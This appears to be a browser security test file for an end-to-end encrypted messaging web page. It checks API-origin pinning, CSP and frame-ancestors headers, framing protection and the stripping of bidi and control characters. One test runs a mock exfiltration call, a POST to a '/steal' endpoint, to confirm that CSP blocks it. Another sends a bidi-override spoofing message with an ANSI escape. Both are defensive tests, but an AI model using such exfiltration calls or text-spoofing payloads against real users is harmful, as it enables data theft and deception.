// What a hostile server, peer or page host could try (review N12): the page's Content-Security-Policy lets it
// connect only to its own origin and the one API origin it was built (or served) for, and a config.json naming
// another API is refused before anything is sent; the page is served with frame-ancestors 'none' and the other
// security headers; bidi and control characters in a message are not shown. The MLS state the page keeps is
// encrypted at rest (N9) is checked in persist.test.mjs, where a group's messages exist.

import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ApiClient, connect, generateKeyPair } from "../../dist/index.js";
import { DIST_PAGE_DIR } from "../../scripts/bundle.mjs";
import { stampApiOrigin } from "../../scripts/csp.mjs";
import { startServers } from "../../scripts/serve.mjs";
import { addContact, assertClean, browserSuite, HISTORY_OF_NEW_CHAT, launch, message, needs, PASSWORD, rand, register, SERVER } from "./helpers.mjs";

const skipBrowser = needs("chromium");
const skip = needs("server", "chromium");
const suite = browserSuite(skip);

let browser;
let dir;
before(async () => {
  if (!skipBrowser) browser = await launch();
  dir = mkdtempSync(join(tmpdir(), "e2ee-web-security-"));
});
after(async () => {
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A page's tab recording console errors and every request it makes. */
async function tab(url) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const log = { consoleErrors: [], requests: [], pageErrors: [] };
  page.on("console", (m) => m.type() === "error" && log.consoleErrors.push(m.text()));
  page.on("pageerror", (e) => log.pageErrors.push(e.message));
  page.on("request", (r) => log.requests.push(r.url()));
  await page.goto(url);
  return { context, page, log };
}

test("a page built for another API origin refuses the config.json of this one: a clear alert, nothing sent", { skip: skipBrowser, timeout: 60000 }, async () => {
  const root = join(dir, "built-elsewhere");
  cpSync(DIST_PAGE_DIR, root, { recursive: true });
  writeFileSync(join(root, "index.html"), stampApiOrigin(readFileSync(join(DIST_PAGE_DIR, "index.html"), "utf8"), "https://api.elsewhere.example"));
  // the API behind the front is never reached: nothing may be sent to it
  const s = await startServers({ api: "http://127.0.0.1:9", webRoot: root, webPort: 0, corsPort: 0, allowPage: true });
  try {
    const { context, page, log } = await tab(s.pageUrl);
    await page.locator("#alerts .alert", { hasText: `config.json names the API at ${new URL(s.apiUrl).origin}, but this page may connect only to https://api.elsewhere.example` }).waitFor();
    assert.equal(await page.locator("#server-url").textContent(), "not configured");
    // signing in is refused by the page itself
    await page.getByLabel("Username", { exact: true }).fill(`someone_${rand()}`);
    await page.getByLabel("Password", { exact: true }).fill(PASSWORD);
    await page.getByRole("button", { name: "Log in" }).click();
    await page.locator("#alerts .alert", { hasText: "The page has no configuration" }).waitFor();
    assert.deepEqual(log.requests.filter((u) => u.startsWith(s.apiUrl)), [], "no request to the API");
    assert.deepEqual(log.consoleErrors, []);
    assert.deepEqual(log.pageErrors, []);
    await context.close();
  } finally {
    await s.close();
  }
});

test("served by serve.mjs: the CSP names the front's origin only (any other connection is refused by the browser); frame-ancestors, nosniff, no-referrer headers", { skip: skipBrowser, timeout: 60000 }, async () => {
  const s = await startServers({ api: "http://127.0.0.1:9", webRoot: DIST_PAGE_DIR, webPort: 0, corsPort: 0, allowPage: true });
  try {
    const res = await fetch(s.pageUrl);
    assert.equal(res.headers.get("content-security-policy"), "frame-ancestors 'none'");
    assert.equal(res.headers.get("x-content-type-options"), "nosniff");
    assert.equal(res.headers.get("referrer-policy"), "no-referrer");
    const { context, page, log } = await tab(s.pageUrl);
    await page.locator("#server-url", { hasText: s.apiUrl }).waitFor();
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]').content);
    assert.match(csp, new RegExp(`connect-src 'self' ${new URL(s.apiUrl).origin};`));
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval';/);
    // A hostile script (here: the test) cannot send anything to another origin: the browser refuses the fetch.
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      let fetched;
      try {
        await fetch("http://127.0.0.1:9/steal", { method: "POST", body: "x" });
        fetched = "sent";
      } catch (e) {
        fetched = e.name;
      }
      await new Promise((ok) => setTimeout(ok, 100));
      return { fetched, violations };
    });
    assert.equal(outcome.fetched, "TypeError");
    assert.equal(outcome.violations.length, 1, outcome.violations.join(" | "));
    assert.match(outcome.violations[0], /^connect-src http:\/\/127\.0\.0\.1:9/);
    assert.ok(!log.requests.some((u) => u.includes("/steal")), "the request never left the page");
    assert.ok(log.consoleErrors.length >= 1 && log.consoleErrors.every((e) => /Content Security Policy/.test(e)), log.consoleErrors.join(" | "));
    // Not framable: a page of another origin that frames it gets nothing (frame-ancestors 'none' as a header).
    const framer = await startServers({ api: "http://127.0.0.1:9", webRoot: dir, webPort: 0, corsPort: 0 });
    try {
      writeFileSync(join(dir, "frame.html"), `<!doctype html><iframe src="${s.pageUrl}"></iframe>`);
      const f = await tab(`${framer.pageUrl}frame.html`);
      await f.page.waitForTimeout(500);
      const framed = f.page.frames().find((fr) => fr !== f.page.mainFrame());
      const body = framed ? await framed.evaluate(() => document.querySelector("#login-form") !== null).catch(() => false) : false;
      assert.equal(body, false, "the login form is not shown inside another site's frame");
      await f.context.close();
    } finally {
      await framer.close();
    }
    await context.close();
  } finally {
    await s.close();
  }
});

test("a message with bidi controls and control characters is shown without them", { skip, timeout: 120000 }, async () => {
  const user = await suite.open("alice");
  const aliceName = `alice_${rand()}`;
  await register(user, aliceName);
  const peerName = `bob_${rand()}`;
  const peer = await connect(new ApiClient({ baseUrl: SERVER }), peerName, PASSWORD, { register: true });
  await peer.registerKey(await generateKeyPair(2048));
  await addContact(user, peerName);
  await peer.sendText(aliceName, "pay \u202e9999\u202c to \u2066bob\u2069\u200f now\u0007\u001b[31m!");
  const shown = message(user, "pay 9999 to bob now\ufffd\ufffd[31m!");
  await shown.waitFor({ timeout: 30000 });
  const text = await shown.locator("p.text").textContent();
  assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/.test(text), JSON.stringify(text));
  await assertClean(user, [HISTORY_OF_NEW_CHAT]);
});
